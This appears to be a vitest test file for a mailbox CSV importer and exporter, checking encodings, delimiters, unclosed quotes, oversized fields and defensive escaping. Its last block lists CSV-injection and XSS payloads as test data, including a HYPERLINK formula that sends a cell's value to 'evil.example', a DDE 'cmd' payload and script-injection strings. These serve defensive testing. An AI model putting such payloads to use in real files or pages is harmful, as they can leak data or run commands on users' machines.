// Bad input for the mailbox import (issue 7, "Faults"): every encoding with every delimiter,
// quotes that are never closed, a 50 MB field, and formula and HTML payloads that stay inert data
// on import and come out neutralised on export.
import { describe, expect, test } from 'vitest'
import { parseCsv } from '../../../src-renderer/lib/domain/mailboxes/csv'
import { mailboxListCsv } from '../../../src-renderer/lib/domain/mailboxes/exports'
import { parseMailboxExport } from '../../../src-renderer/lib/domain/mailboxes/import'
import { makeMailbox } from '../../support/db'
import { utf16Bytes, utf8Bytes, windows1252Bytes } from '../../support/mailbox-fixtures'

const DELIMITERS = [
  ['comma', ','],
  ['semicolon', ';'],
  ['tab', '\t']
] as const

const ENCODINGS: [string, (text: string) => Uint8Array, string][] = [
  ['UTF-8 without BOM', (text) => utf8Bytes(text), 'utf-8'],
  ['UTF-8 with BOM', (text) => utf8Bytes(text, true), 'utf-8'],
  ['UTF-16 LE with BOM', (text) => utf16Bytes(text, 'le'), 'utf-16le'],
  ['UTF-16 BE with BOM', (text) => utf16Bytes(text, 'be'), 'utf-16be'],
  ['UTF-16 LE without BOM', (text) => utf16Bytes(text, 'le', false), 'utf-16le'],
  ['Windows-1252', windows1252Bytes, 'windows-1252']
]

/** A Get-Mailbox inventory whose display names hold the other delimiters and a quote. */
function inventory(delimiter: string): string {
  return [
    ['PrimarySmtpAddress', 'DisplayName', 'Alias'],
    ['jurgen@contoso.com', '"Müller, Jürgen; Büro"', 'jurgen'],
    ['zoe@contoso.com', '"Zoë ""Zed"" Lefèvre"', 'zoe'],
    ['cy@contoso.com', 'Cy\u00a0Ng – €5', 'cy']
  ]
    .map((cells) => cells.join(delimiter))
    .join('\r\n')
}

describe('every encoding with every delimiter reads the same rows', () => {
  const expected = [
    { line: 2, primarySmtpAddress: 'jurgen@contoso.com', displayName: 'Müller, Jürgen; Büro' },
    { line: 3, primarySmtpAddress: 'zoe@contoso.com', displayName: 'Zoë "Zed" Lefèvre' },
    { line: 4, primarySmtpAddress: 'cy@contoso.com', displayName: 'Cy\u00a0Ng – €5' }
  ]
  const cases = ENCODINGS.flatMap(([encodingName, encode, encoding]) =>
    DELIMITERS.map(([delimiterName, delimiter]) => ({
      name: `${encodingName}, ${delimiterName}-separated`,
      bytes: encode(inventory(delimiter)),
      encoding,
      delimiter
    }))
  )

  test.each(cases)('$name', ({ bytes, encoding, delimiter }) => {
    const result = parseMailboxExport(bytes)
    expect(result.errors).toEqual([])
    expect(result.encoding).toBe(encoding)
    expect(result.delimiter).toBe(delimiter)
    expect(
      result.rows.map(({ line, primarySmtpAddress, displayName }) => ({
        line,
        primarySmtpAddress,
        displayName
      }))
    ).toEqual(expected)
  })

  test("Excel's sep= line can name a tab, which trimming the line would lose", () => {
    const table = parseCsv('sep=\t\r\nAlias\tName, Extra\r\nbob\tKelly, Bob\r\n')
    expect(table).toMatchObject({
      delimiter: '\t',
      headers: ['Alias', 'Name, Extra'],
      headerLine: 2,
      records: [{ line: 3, fields: ['bob', 'Kelly, Bob'] }],
      errors: []
    })
  })

  test('a sep= line with spaces around it is still a hint, not the header', () => {
    expect(parseCsv(' sep=; \nAlias;Name\nbob;Bob\n')).toMatchObject({
      delimiter: ';',
      headers: ['Alias', 'Name'],
      headerLine: 2
    })
  })
})

describe('quotes that are never closed', () => {
  test('a later quote does not close it: the line is named and the rows after it are kept', () => {
    // Read naively, ann's name would run on to bob's opening quote and swallow bob's row.
    const csv =
      'PrimarySmtpAddress,DisplayName\n' +
      'ann@contoso.com,"Ann Smith\n' +
      'bob@contoso.com,"Bob Jones"\n' +
      'cy@contoso.com,Cy\n'
    const result = parseMailboxExport(csv)
    expect(result.errors).toEqual([
      {
        line: 2,
        message: 'line 2: a quoted field starts here but its closing quote (") is missing'
      }
    ])
    expect(result.rows).toEqual([
      { line: 3, primarySmtpAddress: 'bob@contoso.com', displayName: 'Bob Jones' },
      { line: 4, primarySmtpAddress: 'cy@contoso.com', displayName: 'Cy' }
    ])
  })

  test('the same in a UTF-16 file with semicolons, on a later line', () => {
    const csv = 'Alias;DisplayName\r\nann;Ann\r\nbob;"Bob\r\ncy;"Cy ""C"" Ng"\r\ndee;"Dee"\r\n'
    const result = parseMailboxExport(utf16Bytes(csv, 'le'))
    expect(result).toMatchObject({ encoding: 'utf-16le', delimiter: ';' })
    expect(result.errors).toEqual([
      {
        line: 3,
        message: 'line 3: a quoted field starts here but its closing quote (") is missing'
      }
    ])
    expect(result.rows).toEqual([
      { line: 2, alias: 'ann', displayName: 'Ann' },
      { line: 4, alias: 'cy', displayName: 'Cy "C" Ng' },
      { line: 5, alias: 'dee', displayName: 'Dee' }
    ])
  })

  test('a quote opened on the last line is named, and the rows before it are kept', () => {
    const result = parseMailboxExport('Alias,DisplayName\r\nann,Ann\r\nbob,"Bob\r\n')
    expect(result.errors).toEqual([
      {
        line: 3,
        message: 'line 3: a quoted field starts here but its closing quote (") is missing'
      }
    ])
    expect(result.rows).toEqual([{ line: 2, alias: 'ann', displayName: 'Ann' }])
  })

  test('a quoted field over several lines that closes properly is still one value', () => {
    expect(parseCsv('A,B\n"one\ntwo",x\n"three"\n').records).toEqual([
      { line: 2, fields: ['one\ntwo', 'x'] }
    ])
  })
})

describe('a single 50 MB field', () => {
  const big = 'x'.repeat(50 * 1024 * 1024)
  const message = (line: number) =>
    `line ${line}: a field is longer than 1 MB; this is not a mailbox export or the file is damaged, so reading stopped here`

  test('in a UTF-16 LE file (Windows PowerShell 5.1), quoted over several lines', () => {
    const head = utf16Bytes(
      '"PrimarySmtpAddress","DisplayName"\r\n"ann@contoso.com","Ann"\r\n"bob@contoso.com","a\r\nb',
      'le'
    )
    const tail = utf16Bytes('"\r\n', 'le', false)
    // 50 MiB of 'x' as UTF-16 LE code units, without a 50-million-step loop in the helper.
    const field = new Uint8Array(new Uint16Array(big.length).fill(0x78).buffer)
    const bytes = new Uint8Array(head.length + field.length + tail.length)
    bytes.set(head)
    bytes.set(field, head.length)
    bytes.set(tail, head.length + field.length)
    const result = parseMailboxExport(bytes)
    expect(result.encoding).toBe('utf-16le')
    expect(result.errors).toEqual([{ line: 3, message: message(3) }])
    expect(result.rows.map((row) => row.line)).toEqual([2])
  }, 60_000)

  test('as the header line', () => {
    const result = parseMailboxExport(`${big},DisplayName\nann@contoso.com,Ann\n`)
    expect(result.errors).toEqual([{ line: 1, message: message(1) }])
    expect(result.rows).toEqual([])
  }, 30_000)

  test('keeps no copy of the field: the result is small and the heap does not grow by it', () => {
    const csv = `Alias;DisplayName\nann;Ann\nbob;"${big}"\n`
    // Flatten the concatenation now, so the measurement below sees only what the parser adds.
    expect(csv.lastIndexOf('"')).toBe(csv.length - 2)
    const before = process.memoryUsage().heapUsed
    const table = parseCsv(csv)
    const grown = process.memoryUsage().heapUsed - before
    expect(table.errors).toEqual([{ line: 3, message: message(3) }])
    expect(JSON.stringify(table).length).toBeLessThan(1_000)
    // A copy of the field would be 50 MB; without one the parser allocates next to nothing.
    expect(grown).toBeLessThan(10 * 1024 * 1024)
  }, 30_000)
})

describe('formula and HTML payloads', () => {
  const payloads = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '<img src=x onerror=alert(1)>',
    '</script><script>alert(1)</script>'
  ]

  test('are kept as inert text on import and neutralised when the list is exported', () => {
    const csv =
      'PrimarySmtpAddress,DisplayName,Alias\r\n' +
      payloads
        .map((payload, i) => `user${i}@contoso.com,"${payload.replace(/"/g, '""')}",u${i}`)
        .join('\r\n')
    const imported = parseMailboxExport(csv)
    expect(imported.errors).toEqual([])
    // Only the surrounding whitespace goes, as for every value; nothing is escaped or prefixed.
    expect(imported.rows.map((row) => row.displayName)).toEqual(payloads.map((p) => p.trim()))

    const mailboxes = imported.rows.map((row, i) =>
      makeMailbox({
        id: `m${i}`,
        projectId: 'p',
        address: row.primarySmtpAddress ?? '',
        displayName: row.displayName ?? ''
      })
    )
    const names = { domains: new Map<string, string>(), batches: new Map<string, string>() }
    const exported = parseCsv(mailboxListCsv(mailboxes, Int32Array.from(payloads.keys()), names))
    expect(exported.errors).toEqual([])
    expect(exported.records.map((record) => record.fields[1])).toEqual([
      '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "'+cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(1+1)",
      "'=1+1",
      '<img src=x onerror=alert(1)>',
      '</script><script>alert(1)</script>'
    ])
    for (const record of exported.records)
      for (const cell of record.fields) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })
})
